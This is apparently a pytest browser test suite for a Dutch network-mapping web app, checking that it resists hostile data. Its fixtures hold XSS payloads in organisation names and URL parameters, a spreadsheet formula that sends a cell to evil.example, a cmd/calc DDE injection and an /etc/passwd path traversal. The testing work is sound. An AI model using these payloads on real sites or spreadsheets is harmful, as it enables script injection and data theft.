"""A hostile visitor and hostile data in a real headless Chromium. On Netwerk, organisation names stay text
when a visitor hovers every node, the drawing cannot reach the app, and the page asks nothing of any host but
the app. A made-up URL parameter gets a polite notice, never a traceback."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from graph.intake.cells import TRIGGERS, neutralise
from graph.intake.importer import import_path

from .browser import OUTPUT, chromium_browser, open_page, running_app, seeded_store

pytestmark = pytest.mark.browser
# pyvis drew every popup with innerHTML as soon as one title held "href"; the first name is that attack.
HOSTILE_NAMES = {
    "href-lib": "<img src=x onerror=alert(1) data-x=href>",
    "svg-care": "<svg onload=alert(2)></svg> href",
    "link-care": '<a href="javascript:alert(3)">klik</a>',
    "close-lib": "</script><script>alert(4)</script><img src=x onerror=alert(5)>",
}
# Names that a spreadsheet would run as formulas: every download must hold them as text.
FORMULA_NAMES = {
    "formula-lib": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "formula-care": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DRAWING = "Netwerktekening van bibliotheken en zorgorganisaties"
LOCAL_SCHEMES = {"data", "about", "blob"}


def _write_hostile_network(folder: Path) -> None:
    """Two libraries and two care organisations with hostile names, all working with each other."""
    folder.mkdir()
    names = {**HOSTILE_NAMES, **FORMULA_NAMES}
    ids = list(names)
    rows = {
        "organisations": [
            {"id": key, "name": neutralise(name), "kind": "library" if key.endswith("lib") else "care"}
            for key, name in names.items()
        ],
        "sites": [
            {
                "id": f"{key}-s",
                "organisation_id": key,
                "name": f"Locatie {n}",
                "town": "Woerden",
                "lat": str(52.08 + n / 1000),
                "lon": str(4.88 + n / 1000),
            }
            for n, key in enumerate(ids)
        ],  # fmt: skip
        "collaborations": [
            {"id": f"{library}-{care}", "library_site_id": f"{library}-s", "care_site_id": f"{care}-s"}
            for library in ids
            if library.endswith("lib")
            for care in ids
            if care.endswith("care") and library.startswith("formula") == care.startswith("formula")
        ],
    }
    for name, table in rows.items():
        with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(table[0]))
            writer.writeheader()
            writer.writerows(table)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    atlas, folder = seeded_store(tmp_path_factory, "network")
    _write_hostile_network(folder / "hostile")
    assert import_path(atlas, folder / "hostile").ok
    with running_app(atlas.settings.store, str(folder / "secrets.toml")) as url:
        yield url


@pytest.fixture(scope="module")
def chromium(server: str) -> Iterator[Any]:
    with chromium_browser() as browser:
        yield browser


@pytest.fixture()
def page(chromium):  # type: ignore[no-untyped-def]
    OUTPUT.mkdir(parents=True, exist_ok=True)
    context = chromium.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    page.dialogs = []  # type: ignore[attr-defined]
    page.requests = []  # type: ignore[attr-defined]
    page.blocked_calls = []  # type: ignore[attr-defined]
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))  # type: ignore[attr-defined]
    page.on("request", lambda request: page.requests.append(request.url))  # type: ignore[attr-defined]
    # A sandboxed frame may not open dialogs; Chromium reports the attempt, which proves script ran.
    page.on(
        "console",
        lambda message: "Ignored call to" in message.text and page.blocked_calls.append(message.text),  # type: ignore[attr-defined]
    )
    yield page
    context.close()


def _drawing_frame(page):  # type: ignore[no-untyped-def]
    """The frame that runs vis-network: inside the app's frame for the element, in its own sandbox."""
    inner = page.frame_locator(f"iframe[title='{DRAWING}']").locator(f"iframe[title='{DRAWING}']")
    inner.wait_for(timeout=30_000)
    frame = inner.element_handle().content_frame()
    frame.wait_for_function("() => window.atlasNetwork !== undefined", timeout=30_000)
    return inner, frame


def test_hovering_every_node_with_a_hostile_name_shows_it_as_text(page, server: str) -> None:  # type: ignore[no-untyped-def]
    open_page(page, server, "/network?province=all", "Netwerk")
    inner, frame = _drawing_frame(page)
    # The whole drawing in the window: below the organisation chooser its lowest nodes lay beyond the window's
    # edge, where the mouse cannot go.
    inner.scroll_into_view_if_needed()
    box = inner.bounding_box()
    frame.wait_for_function(
        """([width, height]) => Object.values(atlasNetwork.getPositions()).every((point) => {
            const shown = atlasNetwork.canvasToDOM(point);
            return shown.x >= 0 && shown.y >= 0 && shown.x <= width && shown.y <= height; })""",
        arg=[box["width"], box["height"]],
        timeout=10_000,
    )
    nodes = frame.evaluate(
        """() => Object.entries(atlasNetwork.getPositions()).map(([id, point]) =>
            Object.assign({id: id}, atlasNetwork.canvasToDOM(point)))"""
    )
    tooltips = {}
    for node in nodes:
        assert 0 <= node["x"] <= box["width"] and 0 <= node["y"] <= box["height"], node
        page.mouse.move(box["x"] + node["x"], box["y"] + node["y"])
        frame.wait_for_function(
            "() => { const t = document.querySelector('div.vis-tooltip'); return t && t.style.visibility !== 'hidden'"
            " && t.textContent.length > 0; }",
            timeout=10_000,
        )
        tooltips[node["id"]] = frame.evaluate(
            """() => { const t = document.querySelector('div.vis-tooltip');
                return {text: t.textContent, markup: t.querySelectorAll('*:not(div)').length}; }"""
        )
        page.mouse.move(box["x"] + 2, box["y"] + 2)  # away, so the next hover opens a fresh popup
        page.wait_for_timeout(100)
    page.screenshot(path=str(OUTPUT / "network-hostile.png"))

    assert set(HOSTILE_NAMES) <= set(tooltips), sorted(tooltips)
    for key, name in HOSTILE_NAMES.items():
        shown = tooltips[key]
        # the name, character for character, then where it works ("(Woerden)") and its kind
        assert shown["text"].startswith(name + " (") and " — " in shown["text"], shown
        assert shown["markup"] == 0  # no element was made from it
    assert frame.locator("img, svg, a, script[src]").count() == 0
    assert page.dialogs == [] and page.blocked_calls == []


def test_network_drawing_runs_in_a_frame_that_cannot_reach_the_app(page, server: str) -> None:  # type: ignore[no-untyped-def]
    open_page(page, server, "/network", "Netwerk")
    _, frame = _drawing_frame(page)
    assert frame.evaluate("() => self.origin") == "null"  # an opaque origin: no cookies, no storage of the app
    reach = frame.evaluate(
        """() => { try { return String(window.top.location.href); } catch (error) { return 'refused'; } }"""
    )
    assert reach == "refused"
    assert frame.evaluate("() => { try { return document.cookie; } catch (error) { return 'refused'; } }") == "refused"


@pytest.mark.parametrize(
    ("path", "heading"),
    [
        ("/network?province=all", "Netwerk"),
        ("/network?org=abrona&depth=2", "Netwerk"),
        ("/map?province=PV31", "Kaart"),
        ("/coverage", "Dekking"),
        ("/", "Passend Werk Atlas"),
        ("/examples", "Praktijkvoorbeelden"),
    ],
)
def test_page_asks_nothing_of_any_host_but_the_app(page, server: str, path: str, heading: str) -> None:  # type: ignore[no-untyped-def]
    open_page(page, server, path, heading)
    if path.startswith("/network"):
        _drawing_frame(page)
    page.wait_for_timeout(1000)
    elsewhere = [
        url
        for url in page.requests
        if urlsplit(url).scheme not in LOCAL_SCHEMES and urlsplit(url).hostname != "127.0.0.1"
    ]
    assert page.requests and elsewhere == []


@pytest.mark.parametrize(
    "path",
    [
        "/suggestions?radius=abc",
        "/suggestions?radius=-1e999&province=PV99",
        "/network?province=%3Cscript%3Ealert(1)%3C/script%3E&lang=xx",
        "/map?status=%5Bklik%5D(javascript:alert(1))&municipality=GM9999",
        "/questions?q=..%2F..%2Fetc%2Fpasswd&p_province_code=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    ],
)
def test_made_up_url_parameters_get_a_notice_not_a_traceback(page, server: str, path: str) -> None:  # type: ignore[no-untyped-def]
    heading = {"suggestions": "Suggesties", "network": "Netwerk", "map": "Kaart", "questions": "Vragen"}
    open_page(page, server, path, heading[path.split("?")[0].strip("/")])
    main = page.locator("[data-testid='stMain']").inner_text()
    assert "Het adres bevat een waarde die hier niet past" in main
    assert page.locator("[data-testid='stException']").count() == 0
    for leak in ("Traceback", ".py", "/work/", "site-packages", "Error:"):
        assert leak not in main
    assert page.dialogs == [] and page.locator("img[src='x']").count() == 0


def test_downloads_in_the_browser_hold_formulas_as_text(page, server: str) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    open_page(page, server, "/questions?q=organisations-by-partners", "Vragen")
    files = {}
    for label in ("CSV downloaden", "Excel downloaden"):
        with page.expect_download() as download:
            page.get_by_role("button", name=label, exact=True).first.click()
        files[label] = Path(download.value.path())
    with open(files["CSV downloaden"], encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert {"'" + name for name in FORMULA_NAMES.values()} <= set(cells)
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
    workbook = load_workbook(io.BytesIO(files["Excel downloaden"].read_bytes()))  # saved without a suffix
    excel = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {"'" + name for name in FORMULA_NAMES.values()} <= {cell.value for cell in excel}
    assert [cell.coordinate for cell in excel if cell.data_type == "f"] == []


def test_tables_offer_only_the_apps_own_downloads(page, server: str) -> None:  # type: ignore[no-untyped-def]
    """Regression: every table's toolbar offered Streamlit's "Download as CSV" (English on a Dutch page, and
    without the app's protection against formulas) beside the app's own buttons."""
    open_page(page, server, "/questions?q=organisations-by-partners", "Vragen")
    table = page.locator("[data-testid='stDataFrame']").first
    table.hover()
    page.wait_for_timeout(500)
    assert page.locator("[data-testid='stElementToolbar']").first.is_visible()  # the toolbar is there...
    assert page.get_by_role("button", name="Download as CSV").count() == 0  # ...without an export of its own
    assert page.get_by_role("button", name="CSV downloaden", exact=True).count() >= 1
